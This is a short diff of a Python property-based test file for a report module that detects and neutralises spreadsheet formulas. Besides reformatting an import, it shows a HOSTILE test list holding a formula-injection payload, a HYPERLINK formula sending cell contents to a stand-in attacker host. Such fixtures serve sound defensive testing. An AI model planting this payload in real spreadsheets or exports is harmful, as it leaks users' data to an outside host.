@@ -13,7 +13,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from assess.report.outputs import ChapterOutputs
-from assess.report.safe_text import FORMULA_TRIGGERS, is_formula_like, neutralise_formula
+from assess.report.safe_text import (
+    FORMULA_TRIGGERS,
+    is_formula_like,
+    neutralise_formula,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
